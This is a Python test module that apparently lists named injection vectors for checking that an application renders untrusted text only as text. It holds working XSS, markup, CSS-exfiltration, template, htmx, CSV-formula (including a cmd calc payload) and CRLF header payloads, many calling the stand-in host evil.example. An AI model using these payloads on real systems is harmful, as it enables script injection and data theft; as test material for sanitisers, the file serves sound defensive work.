"""Texts that try to become something else than text, each with a name.

Markup carries ``data-evil``, what it loads lies at ``evil.example`` or below ``/evil``, what it
computes is 13396033 (no number of a row): a page on which none of these appears has shown only
text.
"""

from __future__ import annotations

from typing import Final

from orchestrator.strictjson import has_hidden

_ZALGO: Final = "Z" + "".join(chr(number) for number in range(0x0300, 0x0340)) * 3

VECTORS: Final[dict[str, str]] = {
    # Markup that runs
    "script": "<script data-evil>alert(1)</script>",
    "script from elsewhere": '<script data-evil src="https://evil.example/x.js"></script>',
    "script in capitals": "<ScRiPt data-evil>alert(1)</sCrIpT >",
    "script in halves": "<scr<script data-evil>ipt>alert(1)</scr</script>ipt>",
    "image error": '<img data-evil src="/evil.png" onerror="alert(1)">',
    "image without spaces": "<img/data-evil/src=/evil.png/onerror=alert(1)>",
    "svg load": '<svg data-evil onload="alert(1)"><animate data-evil onbegin="alert(1)"></svg>',
    "svg script": "<svg data-evil><script data-evil>alert(1)</script></svg>",
    "svg link": '<svg data-evil><a data-evil xlink:href="javascript:alert(1)">x</a></svg>',
    "svg use": '<svg data-evil><use href="https://evil.example/x.svg#x"></use></svg>',
    "body load": '<body data-evil onload="alert(1)">',
    "focus": '<input data-evil autofocus onfocus="alert(1)">',
    "details toggle": '<details data-evil open ontoggle="alert(1)">x</details>',
    "marquee": '<marquee data-evil onstart="alert(1)">x</marquee>',
    "video": '<video data-evil><source onerror="alert(1)" src="/evil.mp4"></video>',
    # Addresses
    "javascript address": '<a data-evil href="javascript:alert(1)">press</a>',
    "javascript with tabs": '<a data-evil href="java\tscript:alert(1)">press</a>',
    "bare javascript address": "javascript:alert(1)",
    "data address": '<a data-evil href="data:text/html,<script>alert(1)</script>">x</a>',
    "bare data address": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "address of an image": "https://evil.example/x.png",
    "address without scheme": "//evil.example/x.png",
    # Markup that loads, sends or moves the page
    "iframe": '<iframe data-evil src="https://evil.example/"></iframe>',
    "iframe with document": '<iframe data-evil srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data-evil data="https://evil.example/x.swf"></object>',
    "embed": '<embed data-evil src="https://evil.example/x.swf">',
    "meta refresh": '<meta data-evil http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base data-evil href="https://evil.example/">',
    "link": '<link data-evil rel="stylesheet" href="https://evil.example/x.css">',
    "prefetch": '<link data-evil rel="dns-prefetch" href="https://evil.example/">',
    "form": '<form data-evil action="https://evil.example/"><button>Approve</button></form>',
    "form action": '<button data-evil formaction="https://evil.example/">Approve</button>',
    "dangling": "<img data-evil src='https://evil.example/?",
    "ping": '<a data-evil href="/" ping="https://evil.example/">press</a>',
    "image set": '<img data-evil srcset="/evil.png 2x" alt="x">',
    "speculation": '<script data-evil type="speculationrules">{"prefetch":[{"urls":["/evil"]}]}',
    # Parts of ours
    "form of ours": '<input data-evil form="decision" name="decision" value="rejected">',
    "popover of ours": '<div data-evil id="menu" popover>x</div><b data-evil popovertarget="help">',
    "command": '<button data-evil commandfor="menu" command="show-popover">x</button>',
    "key of ours": '" data-key="a" data-evil="1" formaction="/evil',
    # Styles
    "style": "<style data-evil>*{background:url(https://evil.example/x)}</style>",
    "style attribute": '<p data-evil style="position:fixed;inset:0;background:red">x</p>',
    "style break-out": "</style><script data-evil>alert(1)</script>",
    "import": "@import url(https://evil.example/x.css);",
    "attribute selector": "input[value^='a']{background:url(https://evil.example/a)}",
    # Break-outs
    "script break-out": "</script><script data-evil>alert(1)</script>",
    "JSON break-out": '"}]</script><img data-evil src=/evil onerror=alert(1)>',
    "attribute break-out": '" data-evil="1" onmouseover="alert(1)" autofocus onfocus="alert(1)',
    "attribute with one quote": "' data-evil='1' onmouseover='alert(1)' x='",
    "attribute without quotes": "x data-evil onmouseover=alert(1)",
    "textarea": "</textarea><img data-evil src=/evil onerror=alert(1)>",
    "title": "</title><img data-evil src=/evil onerror=alert(1)>",
    "comment": "--><img data-evil src=/evil onerror=alert(1)><!--",
    "CDATA": "]]><img data-evil src=/evil onerror=alert(1)><![CDATA[",
    "alt": 'x" onerror="alert(1)" data-evil="',
    # Markup that changes when it is read twice
    "mutation in noscript": '<noscript><p title="</noscript><img data-evil src=/evil>"></noscript>',
    "mutation in MathML": (
        "<math><mtext><table><mglyph><style><!--</style><img data-evil "
        'title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math>'
    ),
    "template": "<template data-evil shadowrootmode=open><script>alert(1)</script></template>",
    "slot": "<x-x data-evil><slot onslotchange=alert(1)></slot></x-x>",
    "entities": "&lt;img data-evil src=/evil onerror=alert(1)&gt;",
    "entities twice": "&amp;lt;img data-evil onerror=alert(1)&amp;gt;",
    # Languages of the server and of htmx
    "template of Django": "{{ 1913719|add:11482314 }}{% now 'Y' %}{% load static %}",
    "template of others": "${1913719*7} #{1913719*7} <%= 1913719*7 %> {{1913719*7}} @(1913719*7)",
    "htmx": '<div data-evil hx-get="/evil" hx-trigger="load">x</div>',
    "htmx on": '<div data-evil hx-on::load="alert(1)" data-hx-on:click="alert(1)">x</div>',
    "htmx data": '<div data-evil data-hx-get="/evil" data-hx-trigger="load">x</div>',
    "htmx out of band": '<div data-evil hx-swap-oob="true" id="main">gone</div>',
    "printf": "%s%s%n%x %(name)s %d {0} {name.__class__}",
    # Markdown
    "markdown image": "![x](https://evil.example/x.png)",
    "markdown link": "[press](javascript:alert(1)) <https://evil.example/>",
    # Programs that read exports
    "formula": '=HYPERLINK("https://evil.example/","x")',
    "formula with plus": "+12-12",
    "formula with minus": "-2+3+cmd|' /C calc'!A0",
    "formula with at": "@SUM(1,2)",
    "formula behind a tab": "\t=1+1",
    "header": "a\r\nSet-Cookie: evil=1\r\n\r\n<img data-evil src=/evil>.pdf",
    # Characters
    "NUL in words": "\\u0000 \\x00 %00 &#0; \\0",
    "ANSI": "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example/\x07press\x1b]8;;\x07",
    "bidi override": "invoice\u202egpj.exe\u202c \u2066isolate",
    "zero width": "pa\u200bss\ufeffword \u2060 \u00ad",
    "tags": "safe\U000e0041\U000e0042",
    "homoglyph": "\u0430ccount.p\u0430yp\u0430l.com",
    "right to left": "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd 12.5 EUR",
    "zalgo": _ZALGO,
    "long word": "W" * 190,
    "long word of dots": "a.b/c-d_e" * 20,
    "wide sign": "\ufdfd" * 20,
    "stacked": "\u0e01" + "\u0e49" * 12,
    "unbroken spaces": "x\u00a0" * 70,
    "separators": "one\u2028two\u2029three\u0085four",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467\ufe0f" * 8,
    "fullwidth": "\uff1cscript data-evil\uff1ealert(1)\uff1c/script\uff1e",
}


def packs(longest: int, *, plain: bool = False) -> list[str]:
    """All vectors, several in a text of at most so many characters. A longer one is cut.

    ``plain``: without those that hold hidden characters, which no published name may.
    """
    found = [""]
    for vector in VECTORS.values():
        if plain and has_hidden(vector):
            continue
        if len(found[-1]) + len(vector) + 1 > longest and found[-1]:
            found.append("")
        found[-1] = f"{found[-1]} {vector}".strip(" ")[:longest]
    return found
